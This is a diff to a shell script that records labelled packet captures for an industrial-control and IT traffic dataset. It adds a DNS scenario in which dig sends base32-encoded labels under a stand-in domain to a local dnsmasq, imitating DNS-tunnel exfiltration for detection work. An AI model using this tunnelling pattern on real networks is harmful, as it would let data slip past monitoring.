@@ -42,6 +42,8 @@
 #   it_files.pcap     pyftpdlib <- curl (FTP, TCP 21 and its data connections),
 #                     OpenSSH sshd <- curl/libssh2 (SFTP, TCP 22, to the failed login),
 #                     aiosmtpd <- curl (SMTP, TCP 25, a message with a PLC project file)
+#   it_dns.pcap       dnsmasq <- dig (DNS over UDP and TCP 53: plant names, and queries
+#                     whose labels carry encoded data as DNS tunnels do)
 #
 # and MANIFEST.md is rewritten from what the captures hold.
 #
@@ -53,7 +55,7 @@
 #                                               #  modbus-unitscan, modbus-poll, s7-attack, s7-poll,
 #                                               #  dnp3-attack, dnp3-poll, baseline-normal-a,
 #                                               #  baseline-normal-b, baseline-attack, it-web,
-#                                               #  it-files)
+#                                               #  it-files, it-dns)
 #   sudo pcaps/make-captures.sh attacks         # the attack / operations captures
 #   sudo pcaps/make-captures.sh normal          # the normal-polling captures
 #   sudo pcaps/make-captures.sh baseline        # the three baseline captures (about 7 min)
@@ -84,12 +86,12 @@ PYFTPDLIB_SPEC=${PYFTPDLIB_SPEC:-pyftpdlib==2.2.0}
 AIOSMTPD_SPEC=${AIOSMTPD_SPEC:-aiosmtpd==1.4.6}
 
 APT_PACKAGES=(tcpdump tshark gcc libc6-dev pkg-config libmodbus-dev python3 python3-venv iproute2
-              openssl curl openssh-server)
+              openssl curl openssh-server dnsmasq bind9-dnsutils)
 REFERENCE_SCENARIOS=(modbus modbus-offport s7 s7-control s7-control-native dnp3 dnp3-udp)
 ATTACK_SCENARIOS=(modbus-writes modbus-diag modbus-fcscan modbus-unitscan s7-attack dnp3-attack)
 NORMAL_SCENARIOS=(modbus-poll s7-poll dnp3-poll)
 BASELINE_SCENARIOS=(baseline-normal-a baseline-normal-b baseline-attack)
-IT_SCENARIOS=(it-web it-files)
+IT_SCENARIOS=(it-web it-files it-dns)
 ALL_SCENARIOS=("${REFERENCE_SCENARIOS[@]}" "${ATTACK_SCENARIOS[@]}" "${NORMAL_SCENARIOS[@]}"
                "${BASELINE_SCENARIOS[@]}" "${IT_SCENARIOS[@]}")
 
@@ -448,6 +450,32 @@ PY
     finish_capture it_files
 }
 
+run_it_dns() {
+    # dnsmasq answering dig on loopback: the plant's own names (UDP, and one over TCP), then
+    # queries whose first labels carry base32-encoded data under one domain, as a DNS tunnel
+    # (iodine, dnscat2) sends them; dnsmasq, with no upstream, refuses those.
+    port_busy udp 53 && die "udp port 53 is already in use"
+    port_busy tcp 53 && die "tcp port 53 is already in use"
+    log "scenario it_dns (udp/53, tcp/53)"
+    start_capture it_dns "port 53"
+    start_bg "$WORK/dnsmasq.log" dnsmasq --no-daemon --conf-file=/dev/null --no-resolv \
+        --no-hosts --listen-address=127.0.0.1 --bind-interfaces --port=53 \
+        --address=/hmi.plant.example/10.10.0.5 --address=/historian.plant.example/10.10.0.6
+    local dns_pid=$LAST_PID
+    wait_port udp 53 "$dns_pid"
+    dig +short @127.0.0.1 hmi.plant.example A >/dev/null
+    dig +short @127.0.0.1 historian.plant.example A >/dev/null
+    dig +short +tcp @127.0.0.1 hmi.plant.example A >/dev/null
+    local chunk
+    for chunk in mzxw6ytboi2dkmzqgiydambqgiydambqgiydambqgiydambqga \
+                 nbswy3dpeb3w64tmmqqhg2lunfzs4idjnzzxi4tpn5zgk3dpn5xgq \
+                 onugs5dffzqxa5bqgiydambqgiydambqgiydambqgiydambqgiyda; do
+        dig +short @127.0.0.1 "$chunk.t1.updates-cdn.example" TXT >/dev/null || true
+    done
+    stop_bg "$dns_pid" TERM
+    finish_capture it_dns
+}
+
 # attack / operations scenarios --------------------------------------------
 run_modbus_writes() {
     # pymodbus treats unit id 0 as broadcast (carried out, never answered).
@@ -596,12 +624,14 @@ declare -A PROTOS=(
     [baseline_attack]="tcp mbtcp modbus tpkt cotp s7comm"
     [it_web_tls]="tcp http tls"
     [it_files]="tcp ftp ftp-data ssh smtp imf"
+    [it_dns]="udp dns"
 )
 declare -A DECODE_AS=(
     [modbus_pymodbus_offport]="-d tcp.port==5020,mbtcp"
     [it_web_tls]="-d tcp.port==8443,tls"
 )
 declare -A EXTRA_CHECKS=(
+    [it_dns]="tcp.port==53&&dns dns.qry.type==16 dns.flags.rcode==5"
     [it_files]="ftp.request.command==EPSV ftp.request.command==PASV ftp.request.command==PORT ftp.request.command==STOR ftp.request.command==LIST ssh.kex.hassh ssh.kex.hasshserver smtp.req.command==DATA imf.from"
     [it_web_tls]="http.request.method==GET tls.handshake.extensions_server_name==\"hmi.plant.example\" tls.handshake.type==11 tls.handshake.extensions.supported_version==0x0304"
     [modbus_pymodbus_libmodbus]="modbus.exception_code"
@@ -814,6 +844,7 @@ write_manifest() {
         [baseline_normal_b]="$baseline_stacks"
         [baseline_attack]="$baseline_stacks; intruder: pymodbus $v_pymodbus client and python-snap7 $v_snap7 client (native Snap7)"
         [it_web_tls]="CPython $(python3 -c 'import platform; print(platform.python_version())') http.server and $(openssl version | cut -d' ' -f1-2) s_server ↔ curl $(curl --version | head -1 | cut -d' ' -f2)"
+        [it_dns]="dnsmasq $(dnsmasq --version | head -1 | cut -d' ' -f3) ↔ dig $(dig -v 2>&1 | cut -d' ' -f2)"
         [it_files]="pyftpdlib $(pyver "$VENV" pyftpdlib), OpenSSH $(ssh -V 2>&1 | cut -d, -f1 | cut -d_ -f2) sshd and aiosmtpd $(pyver "$VENV" aiosmtpd) ↔ curl $(curl --version | head -1 | cut -d' ' -f2) (libssh2 $(curl --version | grep -o 'libssh2/[0-9.]*' | cut -d/ -f2))"
     )
     declare -A TRANSPORT=(
@@ -838,6 +869,7 @@ write_manifest() {
         [baseline_attack]="TCP 502 and TCP 102, 127.0.0.5/10/20/66"
         [it_web_tls]="TCP 8080 (HTTP) and TCP 8443 (TLS)"
         [it_files]="TCP 21 (FTP) and its data connections, TCP 22 (SSH), TCP 25 (SMTP)"
+        [it_dns]="UDP 53 and TCP 53 (DNS)"
     )
     local dnp3_ops="startup: disable unsolicited, integrity poll (class 1/2/3/0, with buffered events), enable unsolicited; unsolicited responses with binary/analog/counter events (g2v1, g32v1, g22v1) and their confirms; integrity poll; disable unsolicited; event poll class 1/2/3 (with events), class 1, 2, 3 and 0 polls, range scan g30v1 0-4, all-objects g1v2; CROB direct operate (latch on) and select/operate (pulse on); analog output direct operate (g41v2 int16) and select/operate (g41v3 float32); event poll (output status events g11v1, g42v1); link status request; cold restart (g52v1 delay reply); enable unsolicited; unsolicited events; integrity poll"
     declare -A CONTENTS=(
@@ -861,6 +893,7 @@ write_manifest() {
         [baseline_normal_b]="the same as \`baseline_normal_a.pcap\`, recorded separately (new processes and ports, other random values), $BASELINE_CYCLES_NORMAL_B s"
         [baseline_attack]="$BASELINE_CYCLES_ATTACK s of the same HMI polling; from $BASELINE_ATTACK_DELAY s, 127.0.0.66: FC43/14 read device id; FC3 sweep of HR 0-1999; FC16 HR 0-3 := 9999; FC15 coils 0-7 off and FC5 coil 4 on; S7 write_var DB1, M, Q; PLC STOP. Timeline below and in \`baseline_attack.steps.tsv\`"
         [it_web_tls]="GET /index.html and GET /projects/line1.ap17 (a PLC project file) over HTTP/1.1; one TLS 1.2 and one TLS 1.3 handshake with SNI hmi.plant.example, then GET / inside"
+        [it_dns]="A queries for hmi.plant.example and historian.plant.example (one over TCP), answered; three TXT queries whose first label is 50+ characters of base32 under t1.updates-cdn.example, refused"
         [it_files]="FTP: RETR of /projects/line1.ap17 (a PLC project file) over EPSV and over PORT, RETR of recipe.txt over PASV, STOR of uploads/recipe.txt, a LIST; SSH: banners, KEXINIT and NEWKEYS both ways, then a refused login; SMTP: EHLO, one message from eng@plant.example to two recipients with line1.ap17 attached (base64)"
     )
 
@@ -985,7 +1018,7 @@ ALL_CAPTURES=(modbus_pymodbus_libmodbus modbus_pymodbus_offport s7comm_snap7 s7c
               modbus_attack_writes modbus_attack_diagnostics modbus_attack_fcscan modbus_attack_unitscan
               modbus_normal_polling s7comm_attack_control s7comm_normal_polling
               dnp3_attack_control dnp3_normal_polling
-              baseline_normal_a baseline_normal_b baseline_attack it_web_tls it_files)
+              baseline_normal_a baseline_normal_b baseline_attack it_web_tls it_files it_dns)
 
 # ----------------------------------------------------------------------------
 main() {
@@ -997,7 +1030,7 @@ main() {
             modbus-writes|modbus-diag|modbus-fcscan|modbus-unitscan|modbus-poll) ;;
             s7-attack|s7-poll|dnp3-attack|dnp3-poll|attacks|normal) ;;
             baseline-normal-a|baseline-normal-b|baseline-attack|baseline) ;;
-            it-web|it-files) ;;
+            it-web|it-files|it-dns) ;;
             -h|--help) awk 'NR > 1 && /^#/ { sub(/^# ?/, ""); print; next } NR > 1 { exit }' "$0"; exit 0 ;;
             *) die "unknown scenario '$s' (known: ${ALL_SCENARIOS[*]})" ;;
         esac
@@ -1046,6 +1079,7 @@ main() {
             baseline-attack) run_baseline_attack; verify baseline_attack ;;
             it-web) run_it_web; verify it_web_tls ;;
             it-files) run_it_files; verify it_files ;;
+            it-dns) run_it_dns; verify it_dns ;;
             manifest) ;;
         esac
     done
